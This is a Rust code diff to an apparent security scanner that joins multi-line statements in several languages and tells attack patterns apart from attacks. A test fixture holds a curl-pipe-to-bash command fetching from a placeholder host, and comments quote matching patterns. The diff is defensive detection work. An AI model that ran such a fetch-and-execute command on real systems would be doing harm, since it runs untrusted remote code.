@@ -290,7 +290,7 @@ pub(crate) fn line_starts(text: &str) -> Vec<usize> {
 
 /// The logical lines of a text (1-based first line, text): shell and PowerShell lines
 /// continued with `\` or `` ` `` joined, Python and JavaScript lines joined while brackets are
-/// open (at most 30 lines).
+/// open, and a PowerShell hashtable or array literal (at most 30 lines).
 fn logical_lines(text: &str, lang: Lang) -> Vec<(usize, &str)> {
     let mut out = Vec::new();
     let mut start: Option<(usize, usize)> = None;
@@ -303,9 +303,16 @@ fn logical_lines(text: &str, lang: Lang) -> Vec<(usize, &str)> {
         let trimmed = line.trim_end();
         let continues = match lang {
             Lang::Shell | Lang::Code => trimmed.ends_with('\\'),
-            Lang::PowerShell => trimmed.ends_with('`') || trimmed.ends_with('^'),
+            // A hashtable or array literal (`$ctx = [ordered]@{`) is one statement.
+            Lang::PowerShell => {
+                if depth > 0 || trimmed.ends_with("@{") || trimmed.ends_with("@(") {
+                    depth += bracket_balance(trimmed, false);
+                    depth = depth.max(0);
+                }
+                depth > 0 || trimmed.ends_with('`') || trimmed.ends_with('^')
+            }
             Lang::Python | Lang::JavaScript => {
-                depth += bracket_balance(trimmed);
+                depth += bracket_balance(trimmed, lang == Lang::JavaScript);
                 depth = depth.max(0);
                 depth > 0 || trimmed.ends_with('\\')
             }
@@ -323,15 +330,23 @@ fn logical_lines(text: &str, lang: Lang) -> Vec<(usize, &str)> {
         depth = 0;
         joined = 0;
     }
+    // Lines still joined at the end (a bracket never closed: a `(` in a regular expression
+    // literal, a truncated script) are a logical line too.
+    if let Some((first_line, first_byte)) = start {
+        out.push((
+            first_line,
+            text[first_byte..].trim_end_matches(['\n', '\r']),
+        ));
+    }
     out
 }
 
 /// Opened minus closed brackets outside strings and comments on one line.
-fn bracket_balance(line: &str) -> i32 {
+fn bracket_balance(line: &str, javascript: bool) -> i32 {
     let mut depth = 0;
     let mut quote: Option<char> = None;
     let mut escaped = false;
-    for c in line.chars() {
+    for (i, c) in line.char_indices() {
         if escaped {
             escaped = false;
             continue;
@@ -342,6 +357,8 @@ fn bracket_balance(line: &str) -> i32 {
             (Some(_), _) => {}
             (None, '"' | '\'' | '`') => quote = Some(c),
             (None, '#') => break,
+            // A JavaScript comment (its apostrophes open no string).
+            (None, '/') if javascript && line[i + 1..].starts_with('/') => break,
             (None, '(' | '[' | '{') => depth += 1,
             (None, ')' | ']' | '}') => depth -= 1,
             _ => {}
@@ -433,9 +450,33 @@ impl<'a> Cutter<'a> {
         for (line, part) in logical_lines(text, lang) {
             // A security skill's scripts that only talk about an attack in comments, and the
             // patterns a scanner matches (`re.compile(r"curl.*\|\s*sh")`), describe attacks.
-            let described = (self.themed && is_comment(part, lang)) || pattern_like(part);
+            let described = (self.themed && is_comment(part, lang)) || self.patterns(part);
             self.line(first + line, part, lang, context, documented || described);
         }
+    }
+
+    /// Whether a logical line (a slice of the file) defines patterns to match: when it joins
+    /// several lines (an open bracket), each of them that holds a keyword must be a pattern
+    /// (a list of `r"curl.*\|\s*sh"`), so that one regular expression in a function body
+    /// (`.filter(r => !/^Read\(.*\.env/.test(r))`) does not make the 30 lines joined with it
+    /// a description.
+    fn patterns(&self, part: &str) -> bool {
+        if !part.contains('\n') {
+            return pattern_like(part);
+        }
+        let Some(base) = (part.as_ptr() as usize).checked_sub(self.file.as_ptr() as usize) else {
+            return pattern_like(part);
+        };
+        let mut keyed = part
+            .split_inclusive('\n')
+            .scan(base, |at, line| {
+                let start = *at;
+                *at += line.len();
+                Some((start, line))
+            })
+            .filter(|&(start, line)| self.families_in(start, start + line.len()) != 0)
+            .peekable();
+        keyed.peek().is_some() && keyed.all(|(_, line)| pattern_like(line))
     }
 
     /// Adds the unit of a line (`text`, a slice of the file) as written and, when it differs,
@@ -803,5 +844,30 @@ fn decode_into(
             left,
             units,
         );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_bracket_never_closed_keeps_its_lines() {
+        let text = "function c(s) {\n  s.a = 1;\n  run('curl -s https://x.example/i.sh | bash');\n";
+        assert_eq!(
+            logical_lines(text, Lang::JavaScript),
+            vec![(1, text.trim_end())]
+        );
+        assert_eq!(
+            logical_lines("echo a \\\n  b\necho c \\", Lang::Shell),
+            vec![(1, "echo a \\\n  b"), (3, "echo c \\")]
+        );
+    }
+
+    #[test]
+    fn a_javascript_comment_opens_no_string() {
+        assert_eq!(bracket_balance("f(a, // it's (b", true), 1);
+        assert_eq!(bracket_balance("f(a, // see (b", false), 2);
+        assert_eq!(bracket_balance("x = (a // 2)", false), 0);
     }
 }
